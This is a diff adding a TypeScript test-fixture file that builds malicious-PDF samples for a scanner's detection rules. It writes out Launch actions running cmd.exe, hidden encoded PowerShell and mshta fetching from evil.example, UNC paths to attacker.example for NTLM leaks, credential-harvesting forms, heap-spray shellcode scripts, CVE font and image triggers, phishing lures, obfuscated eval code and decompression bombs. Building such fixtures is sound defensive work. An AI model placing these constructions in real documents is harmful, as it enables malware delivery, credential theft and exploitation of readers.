@@ -1,0 +1,194 @@
+// Test-only: a fixture per carrier for the techniques whose rules predate the catalogue (launch,
+// scripts on open, attachments, callbacks, exploits, lures, evasion). Each is a page of text plus one
+// technique through one carrier (fixture-documents.ts). The cluster files (callback-, dos-tamper-,
+// lure-fixtures.ts) add their techniques' carriers.
+import { deflateSync } from "node:zlib";
+import { wrapInXdp, concat, bytes } from "../../../pdf/testing/pdf-builder";
+import { PE_FILE, makeZip, maliciousPdf, pdfWithAttachments } from "../../embedded/testing/embedded-fixtures";
+import { CVE_2009_0658, EXPLOIT_SWF, exploitBmp, jbig2Image, richMedia, threeD, u3d, xfaWithImage } from "../../embedded/testing/exploit-fixtures";
+import { DOT_RANGE_OVERFLOW, PLAIN_TIFF_TAGS, sfntFont, tiff, xfaImageXml } from "../../facts/formats/testing/format-fixtures";
+import { buildLurePdf } from "../../render/testing/lure-pdf";
+import { SHELLCODE, SLED } from "../../javascript/testing/script-fixtures";
+import { annotWithAa, built, formWithButton, goToThen, linkAnnot, plainDocument, scriptAction, xfaEventScript, xfaForm, type PlainParts } from "./fixture-documents";
+import type { TechniqueFixtures } from "./technique-fixtures";
+
+/** A script that runs code later from text (a timer): not form automation, nothing else either. */
+const TIMER_SCRIPT = 'app.setTimeOut("app.alert(\\"Loading the document\\")", 500);';
+const openAction = (action: string): PlainParts => ({ catalog: `/OpenAction ${action}` });
+const pageOpen = (action: string): PlainParts => ({ page: `/AA << /O ${action} >>` });
+/** an action object nothing refers to: code in the file that another reader, or a later update, may run */
+const unreferenced = (action: string): PlainParts => ({ setup: (b) => void b.add(action) });
+
+/** A TrueType font program whose SING table's uniqueName runs past its 28 bytes with no NUL (CVE-2010-2883). */
+function singFontDocument(): Uint8Array {
+  return built({
+    setup(b) {
+      const file = b.addStream("", sfntFont("SING", "A".repeat(28)));
+      const descriptor = b.add(`<< /Type /FontDescriptor /FontName /Fixture /Flags 32 /FontBBox [0 0 1000 1000] /ItalicAngle 0 /Ascent 800 /Descent -200 /CapHeight 700 /StemV 80 /FontFile2 ${file} 0 R >>`);
+      return { page: `/Resources << /Font << /F2 ${b.add(`<< /Type /Font /Subtype /TrueType /BaseFont /Fixture /FontDescriptor ${descriptor} 0 R >>`)} 0 R >> >>` };
+    },
+  });
+}
+
+/** A page that is one picture, with one link over part of it. */
+function pictureWithLink(url: string): Uint8Array {
+  return built({
+    setup(b) {
+      const img = b.addStream("/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8", "\x80");
+      const content = b.addFlateStream("", "q 612 0 0 792 0 0 cm /Im0 Do Q");
+      const annot = b.add(linkAnnot(`<< /S /URI /URI (${url}) >>`, "100 300 500 500"));
+      return { page: `/Resources << /XObject << /Im0 ${img} 0 R >> >> /Contents ${content} 0 R /Annots [${annot} 0 R]` };
+    },
+  });
+}
+
+const LONG_ENCODED = Array.from({ length: 1500 }, (_, i) => "Zm9vYmFy0123456789abcdefXYZ"[i % 27]).join("");
+
+export const CORE_FIXTURES: TechniqueFixtures = {
+  "launch-command": {
+    "open-action": () => built(openAction("<< /S /Launch /Win << /F (cmd.exe) /P (/c start calc.exe) >> >>")),
+    "link-click": () => built({ annots: [linkAnnot("<< /S /Launch /F (C:\\\\Windows\\\\System32\\\\calc.exe) >>")] }),
+    "page-open": () => built(pageOpen("<< /S /Launch /Win << /F (powershell.exe) /P (-nop -w hidden -enc SQBFAFgA) >> >>")),
+    "form-field": () => built(formWithButton("<< /S /Launch /Win << /F (mshta.exe) /P (https://evil.example/a.hta) >> >>")),
+    "next-chain": () => built(openAction(goToThen("<< /S /Launch /F (payload.exe) >>"))),
+  },
+  "launch-file": {
+    "open-action": () => built(openAction("<< /S /Launch /F (Invoice_0423.docm) >>")),
+    "link-click": () => built({ annots: [linkAnnot("<< /S /Launch /F (statement.html) >>")] }),
+    "page-open": () => built(pageOpen("<< /S /Launch /F (notes.txt) >>")),
+    "annotation-aa": () => built({ annots: [annotWithAa("/E << /S /Launch /F (photo.jpg) >>")] }),
+    unreferenced: () => built(unreferenced("<< /Type /Action /S /Launch /F (update.zip) >>")),
+  },
+  "script-on-open": {
+    "open-action": () => built(openAction(scriptAction(TIMER_SCRIPT))),
+    "names-tree": () => built({ setup: (b) => ({ catalog: `/Names << /JavaScript << /Names [(init) ${b.add(scriptAction(TIMER_SCRIPT))} 0 R] >> >>` }) }),
+    "page-open-aa": () => built(pageOpen(scriptAction(TIMER_SCRIPT))),
+    "annotation-pv-aa": () => built({ annots: [annotWithAa(`/PV ${scriptAction(TIMER_SCRIPT)}`)] }),
+    "xfa-initialize": () => built(xfaForm(xfaEventScript("initialize", TIMER_SCRIPT))),
+    "next-chain": () => built(openAction(goToThen(scriptAction(TIMER_SCRIPT)))),
+  },
+  "attachment-launch": {
+    "open-action-script": () => pdfWithAttachments([{ name: "readme.exe", data: PE_FILE }], { openActionJs: 'this.exportDataObject({ cName: "readme.exe", nLaunch: 2 });' }),
+    "link-click-script": () => built({ annots: [linkAnnot(scriptAction('this.exportDataObject({ cName: "invoice.pdf", nLaunch: 2 });'))] }),
+  },
+  "executable-attachment": {
+    "embedded-files-tree": () => pdfWithAttachments([{ name: "setup.exe", data: PE_FILE }]),
+    "file-attachment-annotation": () => pdfWithAttachments([{ name: "update.exe", data: PE_FILE, via: "annotation" }]),
+    "zip-archive": () => pdfWithAttachments([{ name: "documents.zip", data: makeZip([{ name: "Invoice.pdf.exe", data: PE_FILE }]) }]),
+    "disguised-name": () => pdfWithAttachments([{ name: "scan_0042.jpg", data: PE_FILE }]),
+  },
+  "nested-malicious-pdf": {
+    "embedded-files-tree": () => pdfWithAttachments([{ name: "invoice.pdf", data: maliciousPdf(), subtype: "/application#2Fpdf" }]),
+  },
+  "callback-without-consent": {
+    "open-action-uri": () => built(openAction("<< /S /URI /URI (https://track.example.net/open?id=7731) >>")),
+    "open-action-submitform": () => built(openAction("<< /S /SubmitForm /F << /FS /URL /F (https://collect.example.net/c) >> /Flags 4 >>")),
+    "page-open-gotor-remote": () => built(pageOpen("<< /S /GoToR /F << /FS /URL /F (https://files.example.net/stage2.pdf) >> /D [0 /Fit] >>")),
+    "annotation-pv-uri": () => built({ annots: [annotWithAa("/PV << /S /URI /URI (http://198.51.100.7/pixel) >>")] }),
+  },
+  "script-network-callback": {
+    "open-action-submitform": () => built(openAction(scriptAction('this.submitForm({ cURL: "https://collect.example.net/f", cSubmitAs: "HTML" });'))),
+  },
+  "ntlm-credential-leak": {
+    "gotor-unc": () => built(pageOpen("<< /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\report.pdf) /D [0 /Fit] >>")),
+    "launch-unc": () => built({ annots: [linkAnnot("<< /S /Launch /F (\\\\\\\\203.0.113.9\\\\pub\\\\viewer.exe) >>")] }),
+    "uri-file-scheme": () => built({ annots: [linkAnnot("<< /S /URI /URI (file://attacker.example/share/doc.docx) >>")] }),
+  },
+  "decompression-bomb": {
+    "flate-bomb": () => built({ setup: (b) => void b.addStream("/Filter /FlateDecode", deflateSync(new Uint8Array(48 * 1024 * 1024))) }),
+    "nested-flate-bomb": () => built({ setup: (b) => void b.addStream("/Filter [/FlateDecode /FlateDecode]", deflateSync(deflateSync(new Uint8Array(40 * 1024 * 1024)))) }),
+  },
+  "resource-exhaustion-script": {
+    // scripts that each loop until stopped: together they spend the document's whole script budget
+    "endless-loops": () => built({ setup: (b) => ({ catalog: `/Names << /JavaScript << /Names [${Array.from({ length: 6 }, (_, i) => `(s${i}) ${b.add(scriptAction(`var n${i} = 0; while (true) { n${i}++; }`))} 0 R`).join(" ")}] >> >>` }) }),
+  },
+  "acrobat-api-exploit": {
+    "open-action-script": () => built(openAction(scriptAction('var msg = unescape("%u0c0c%u0c0c"); while (msg.length < 0x4000) msg += msg; Collab.collectEmailInfo({ subj: "", msg: msg });'))),
+  },
+  "heap-spray-shellcode": {
+    "open-action-script": () => built(openAction(scriptAction(`var sc = unescape("${SLED}${SHELLCODE}"); var s = unescape("%u0c0c%u0c0c"); while (s.length < 0x100000) s += s; var a = []; for (var i = 0; i < 200; i++) a[i] = s + sc;`))),
+  },
+  "font-exploit": {
+    "truetype-sing": singFontDocument,
+    "font-matrix": () => built({ page: "/Resources << /Font << /F2 << /Type /Font /Subtype /Type1 /BaseFont /Fixture /FontMatrix [1 0 0 1 0 (1\\); alert\\(1\\)//)] >> >> >>" }),
+  },
+  "image-codec-exploit": {
+    "xfa-tiff": () => built(xfaForm(xfaImageXml(tiff([...PLAIN_TIFF_TAGS, DOT_RANGE_OVERFLOW], { sled: 256 })))),
+    "xfa-bmp": () => xfaWithImage(exploitBmp()),
+    "jbig2-stream": () => jbig2Image(CVE_2009_0658),
+    "predictor-colors": () => built({ setup: (b) => void b.addFlateStream("/DecodeParms << /Predictor 12 /Colors 16777217 /BitsPerComponent 8 /Columns 1 >>", "\x00AAAA") }),
+  },
+  "media-exploit": {
+    "u3d-stream": () => threeD("U3D", u3d({ fileSize: 2612, declSize: 36 })),
+    "flash-stream": () => richMedia(EXPLOIT_SWF, "/Type /EmbeddedFile"),
+  },
+  "signature-match": {
+    // an executable XOR-encoded with one byte inside a stream: the bundled pdf_embedded_pe_xor rule
+    "embedded-pe": () => built({ setup: (b) => void b.addStream("", Uint8Array.from(concat([new Uint8Array(64), PE_FILE]), (x) => x ^ 0x5a)) }),
+  },
+  "credential-phishing-link": {
+    "image-page-link": () => pictureWithLink("https://secure-doc-view.000webhostapp.com/adobe/index.php"),
+    "text-link": () => built({ annots: [linkAnnot("<< /S /URI /URI (https://secure-login.account-verify.example.com/session) >>")] }),
+  },
+  "malware-download-link": {
+    "image-page-link": () => pictureWithLink("https://www.dropbox.com/s/k3x9/Invoice_0423.zip?dl=1"),
+  },
+  "credential-harvesting-form": {
+    "submit-action": () =>
+      built({
+        setup(b) {
+          const password = b.add("<< /Type /Annot /FT /Tx /T (password) /Ff 8192 /Rect [72 560 300 580] /Subtype /Widget >>");
+          const submit = b.add("<< /Type /Annot /FT /Btn /Ff 65536 /T (login) /Rect [72 500 200 530] /Subtype /Widget /A << /S /SubmitForm /F << /FS /URL /F (https://collect.example.net/post.php) >> /Flags 4 >> >>");
+          return { catalog: `/AcroForm << /Fields [${password} 0 R ${submit} 0 R] >>`, page: `/Annots [${password} 0 R ${submit} 0 R]` };
+        },
+      }),
+    "submit-script": () =>
+      built({
+        setup(b) {
+          const password = b.add("<< /Type /Annot /FT /Tx /T (Passwort) /Rect [72 560 300 580] /Subtype /Widget >>");
+          const submit = b.add(`<< /Type /Annot /FT /Btn /Ff 65536 /T (ok) /Rect [72 500 200 530] /Subtype /Widget /A ${scriptAction('this.submitForm({cURL: "https://collect.example.net/p", cSubmitAs: "HTML"});')} >>`);
+          return { catalog: `/AcroForm << /Fields [${password} 0 R ${submit} 0 R] >>`, page: `/Annots [${password} 0 R ${submit} 0 R]` };
+        },
+      }),
+  },
+  "qr-code-lure": {
+    "rendered-page": () => buildLurePdf({ pages: [{ lines: ["Your mailbox is almost full.", "Scan the code to keep receiving mail."], qr: { text: "https://mail-quota.example.top/verify?u=j.doe" } }] }),
+  },
+  "fake-protected-document": {
+    "text-with-link": () =>
+      buildLurePdf({
+        pages: [{ lines: ["PROTECTED DOCUMENT", "This file is protected by Microsoft Office 365.", "Click here to view the document"], links: [{ url: "https://view-secure-docs.example.top/login", rect: [0, 0, 612, 792] }] }],
+      }),
+  },
+  "javascript-obfuscation": {
+    "open-action-script": () => built(openAction(scriptAction('var p = unescape("%61%70%70%2e%61%6c%65%72%74%28%31%29"); eval(p);'))),
+    "unreferenced-script": () => built(unreferenced(scriptAction("var k = String.fromCharCode; var c = [97,112,112,46,97,108,101,114,116,40,49,41]; var s = ''; for (var i = 0; i < c.length; i++) s += k(c[i] ^ 0); eval(s);"))),
+  },
+  "hidden-names": {
+    "escaped-name": () => built(openAction("<< /S /J#61vaScript /JS (app.alert\\(1\\);) >>")),
+    "stray-keyword": () =>
+      built({
+        setup(b) {
+          b.addJunk("\x00\x00junk"); // `junk5 0 obj`: the header is no token of its own
+          return { catalog: `/OpenAction ${b.add(scriptAction("app.alert(1);"))} 0 R` };
+        },
+      }),
+  },
+  "payload-in-metadata": {
+    "info-entry": () => built({ setup: (b) => void (b.info = b.add(`<< /Title (Report) /Subject (${LONG_ENCODED}) >>`)) }),
+    "annotation-text": () => built({ annots: [`<< /Type /Annot /Subtype /Text /Rect [0 0 10 10] /Subj (${LONG_ENCODED}) >>`] }),
+  },
+  "encryption-hiding": {
+    // RC4 with keys that do not open it: the /OpenAction script is ciphertext to every scanner
+    "empty-password-rc4": () => {
+      const b = plainDocument({ catalog: "/OpenAction << /S /JavaScript /JS <9a3b17c4e0> >>" });
+      const enc = b.add(`<< /Filter /Standard /V 1 /R 2 /Length 40 /P -44 /O <${"11".repeat(32)}> /U <${"22".repeat(32)}> >>`);
+      return b.build({ trailerExtra: `/Encrypt ${enc} 0 R /ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>]` });
+    },
+  },
+  "malformed-structure": {
+    "junk-before-header": () => concat([bytes("GIF89a\x01\x00\x01\x00\x00\x00\x00;\n"), built()]),
+    "xdp-package": () => wrapInXdp(built()),
+  },
+};
+
